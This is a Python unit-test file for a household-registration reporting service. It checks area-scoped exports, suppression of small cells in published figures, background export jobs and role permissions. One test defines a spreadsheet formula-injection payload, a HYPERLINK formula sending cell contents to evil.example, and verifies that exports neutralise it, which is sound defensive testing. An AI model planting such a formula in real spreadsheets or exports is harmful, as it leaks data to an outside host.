"""Exports and published figures: scoped, suppressed outside the directorate, neutralised, large ones as jobs."""

import base64
import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook

from common.context import CallerContext
from common.errors import Forbidden, NotFound, ValidationFailed
from reporting.settings import ReportingSettings
from tests.unit.services.test_reporting import Stores, feed, registered

INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"plan")'


def stores_with_cells() -> Stores:
    """Wilaya 16: 7 households in 1601, 2 in 1602 (a small cell), 6 in 1603; and 3 in wilaya 31."""
    stores = Stores()
    counts = {"/DZ/16/1601": 7, "/DZ/16/1602": 2, "/DZ/16/1603": 6, "/DZ/31/3101": 3}
    feed(stores, *(registered(f"{area}-h{i}", area) for area, n in counts.items() for i in range(n)))
    return stores


def read_csv(answer: dict[str, Any]) -> list[dict[str, str]]:
    text = base64.b64decode(answer["file"]["content_base64"]).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def registered_by_area(rows: list[dict[str, str]]) -> dict[str, str]:
    return {row["area"]: row["households_registered"] for row in rows}


def test_staff_export_the_raw_figures_of_their_area(caller: Callable[..., CallerContext]) -> None:
    stores = stores_with_cells()
    director = stores.service(caller("/DZ/16", "wilaya-director"))
    rows = read_csv(director.export_report("2026-Q2"))
    assert registered_by_area(rows) == {"/DZ/16/1601": "7", "/DZ/16/1602": "2", "/DZ/16/1603": "6", "/DZ/16": "15"}
    assert all(row["as_of"] == "2026-05-10T09:00:00+00:00" for row in rows)
    with pytest.raises(NotFound):
        director.export_report("2026-Q2", "/DZ/31")


def test_published_figures_hide_small_cells_and_one_more_so_the_total_reveals_nothing(
    caller: Callable[..., CallerContext],
) -> None:
    stores = stores_with_cells()
    for who in (caller("/DZ", "donor"), caller("/DZ/16", "wilaya-director")):
        published = stores.service(who).public_figures("2026-Q2", "/DZ/16")
        shown = {row["area"]: row["households_registered"] for row in published["rows"]}
        assert shown == {"/DZ/16/1601": 7, "/DZ/16/1602": None, "/DZ/16/1603": None}
        assert published["total"]["households_registered"] == 15
        assert published["suppressed"] is True and published["min_cell"] == 5
    donor_file = read_csv(stores.service(caller("/DZ", "donor")).export_report("2026-Q2", "/DZ/16", fmt="csv"))
    assert registered_by_area(donor_file) == {
        "/DZ/16/1601": "7",
        "/DZ/16/1602": "x",
        "/DZ/16/1603": "x",
        "/DZ/16": "15",
    }
    national = stores.service(caller("/DZ", "donor")).public_figures("2026-Q2")
    # wilaya 31's 3 is hidden, and wilaya 16 with it: 18 - 15 would give it away
    assert {row["area"]: row["households_registered"] for row in national["rows"]} == {"/DZ/16": None, "/DZ/31": None}
    assert national["total"]["households_registered"] == 18
    with pytest.raises(NotFound):
        stores.service(caller("/DZ/31", "wilaya-director")).public_figures("2026-Q2", "/DZ/16")


def test_the_threshold_is_configurable(caller: Callable[..., CallerContext]) -> None:
    stores = stores_with_cells()
    service = stores.service(caller("/DZ", "donor"))
    service.settings = ReportingSettings(min_cell=2)
    shown = {row["area"]: row["households_registered"] for row in service.public_figures("2026-Q2", "/DZ/16")["rows"]}
    assert shown == {"/DZ/16/1601": 7, "/DZ/16/1602": 2, "/DZ/16/1603": 6}


def test_cells_a_spreadsheet_would_run_are_neutralised(caller: Callable[..., CallerContext]) -> None:
    stores = stores_with_cells()
    director = stores.service(caller("/DZ/16", "wilaya-director"))
    director.set_action_plan("2026-Q2", None, INJECTION, "plan-key-1")
    rows = read_csv(director.export_report("2026-Q2"))
    assert rows[-1]["action_plan"] == "'" + INJECTION
    answer = director.export_report("2026-Q2", fmt="xlsx")
    assert answer["file"]["name"] == "rapport-2026-Q2-DZ-16.xlsx"
    sheet = load_workbook(io.BytesIO(base64.b64decode(answer["file"]["content_base64"]))).active
    assert sheet is not None
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + INJECTION in values and INJECTION not in values
    donor = read_csv(stores.service(caller("/DZ", "donor")).export_report("2026-Q2", "/DZ/16"))
    assert donor[-1]["action_plan"] == ""  # the plan is internal to the directorate


def test_a_large_export_runs_as_a_job_for_whoever_started_it(caller: Callable[..., CallerContext]) -> None:
    stores = stores_with_cells()
    officer = stores.service(caller("/DZ", "national-officer"))
    officer.settings = ReportingSettings(export_inline_tallies=2)
    started = officer.export_report("2026-Q2", level="communes")
    job_id = started["job"]["id"]
    assert officer.export_job(job_id) == {"job": stores.jobs.get(job_id)}  # still running
    stores.background.run()
    rows = read_csv(officer.export_job(job_id))
    assert registered_by_area(rows) == {
        "/DZ/16/1601": "7",
        "/DZ/16/1602": "2",
        "/DZ/16/1603": "6",
        "/DZ/31/3101": "3",
        "/DZ": "18",
    }
    someone_else = CallerContext(user_id="user-2", roles=("national-officer",), area="/DZ", correlation_id="c-2")
    with pytest.raises(NotFound):
        stores.service(someone_else).export_job(job_id)


@pytest.mark.parametrize(
    ("asked", "code"),
    [({"fmt": "pdf"}, "unknown_format"), ({"level": "streets"}, "unknown_level"), ({"period": "Q2"}, "unknown_period")],
)
def test_bad_export_requests_are_refused(
    caller: Callable[..., CallerContext], asked: dict[str, str], code: str
) -> None:
    with pytest.raises(ValidationFailed) as refused:
        stores_with_cells().service(caller("/DZ/16", "wilaya-director")).export_report(**{"period": "2026-Q2", **asked})
    assert refused.value.details["code"] == code


def test_who_reads_what(caller: Callable[..., CallerContext]) -> None:
    stores = stores_with_cells()
    for role in ("social-worker", "wilaya-agent", "cell-coordinator", "auditor", "national-officer"):
        assert stores.service(caller("/DZ", role)).public_figures("2026-Q2")["suppressed"] is True
    with pytest.raises(Forbidden):
        stores.service(caller("/DZ", "donor")).get_report("2026-Q2")
    with pytest.raises(Forbidden):
        stores.service(caller("/DZ", "auditor")).rebuild_read_models()
